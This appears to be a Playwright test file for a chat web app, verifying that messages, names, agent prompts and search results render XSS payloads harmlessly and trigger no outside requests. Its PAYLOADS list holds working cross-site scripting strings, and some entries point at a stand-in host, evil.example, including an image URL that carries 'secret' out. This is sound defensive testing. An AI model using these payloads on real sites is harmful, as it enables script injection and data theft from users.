"""Texts of other people and of workflows: whatever stands in them, nothing runs, and nothing is asked of elsewhere."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import Request, expect

from tests.support.person import Person
from tests.support.world import Account, World
from tests.web.browser import answers, await_end, composer, send
from tests.web.conftest import Visit

Arrive = Callable[[Account], Person]

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "<a href=javascript:alert(1)>click</a>",
    "[click](javascript:alert(1))",
    "[click](JaVa\tScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](https://evil.example/collect?q=secret)",
    "![x](javascript:alert(1))",
    '![x](x "onerror=alert(1)")',
    "<javascript:alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    '```x" onmouseover=alert(1) y="\ncode\n```',
    "|a|\n|:-:|\n|<img src=x onerror=alert(1)>|",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=/api/auth/logout method=post><button>click</button></form>",
    "<base href=https://evil.example/>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{constructor.constructor('alert(1)')()}}",
    "\u202egnp.exe <b onmouseover=alert(1)>\u0085\u2028",
]


def test_the_watch_over_the_browser_sees_what_it_should(visit: Visit) -> None:
    visitor = visit()
    page = visitor.open()
    page.evaluate("""() => {
        document.body.insertAdjacentHTML("beforeend", "<p style='color: red' onclick='x()'>x</p>");
        document.body.insertAdjacentHTML("beforeend", "<img src='https://evil.example/x.png'>");
        document.querySelector("[onclick]").click();
        alert(1);
    }""")
    page.wait_for_timeout(200)
    seen = "\n".join(visitor.troubles)
    visitor.troubles.clear()
    for sign in ("style-src", "script-src", "img-src", "a script of somebody else ran"):
        assert sign in seen


def test_messages_titles_and_answers(visit: Visit, world: World, account: Account, simulator: str) -> None:
    world.agent(account.team_id, f"{simulator}?echo=1&delay_ms=0&piece=3")
    visitor = visit(account)
    asked: list[str] = []

    def note(request: Request) -> None:
        if not request.url.startswith(visitor.url):
            asked.append(request.url)

    visitor.context.on("request", note)
    page = visitor.open()
    everything = "\n\n".join(PAYLOADS)
    for text in (PAYLOADS[1], everything):
        composer(page).fill(text)
        page.get_by_role("button", name="Send", exact=True).click()
        expect(answers(page).last.get_by_role("button", name="Answer again")).to_be_visible()
        await_end(page)
    expect(page.locator(".chat-item").first).to_contain_text("<img src=x onerror=alert(1)>")
    for link in page.locator(".markdown a").all():
        href = link.get_attribute("href")
        assert href is None or href.startswith(("http://", "https://", "mailto:")), href
        if href is None:
            link.click()
    page.locator(".markdown b, .code").first.hover()
    page.reload()
    expect(answers(page)).to_have_count(2)
    page.goto("/search?q=onerror")
    expect(page.locator(".hit mark").first).to_be_visible()
    assert (
        page.locator(".hit").evaluate_all(
            "(hits) => hits.flatMap((hit) => [...hit.querySelectorAll('.hit-text *')].map((one) => one.tagName))"
        )
        == ["MARK"] * page.locator(".hit mark").count()
    )
    page.wait_for_timeout(200)
    assert asked == []


@pytest.mark.parametrize("payload", [PAYLOADS[1], PAYLOADS[6], PAYLOADS[-2]])
def test_names_of_people_and_agents(visit: Visit, world: World, person: Arrive, simulator: str, payload: str) -> None:
    account = world.account(name=payload)
    agent_id = world.agent(account.team_id, simulator)
    world.change_agent(account.team_id, agent_id, name=payload, description=payload, system_prompt=payload)
    page = visit(account).open()
    expect(page.get_by_role("heading", name=f"Hello, {payload}")).to_be_visible()
    expect(page.locator(".agent-name")).to_have_text(payload)
    send(page, payload)
    await_end(page)
    expect(page.locator(".head-words")).to_contain_text(payload)
    page.goto("/account")
    expect(page.locator(".facts")).to_contain_text(payload)
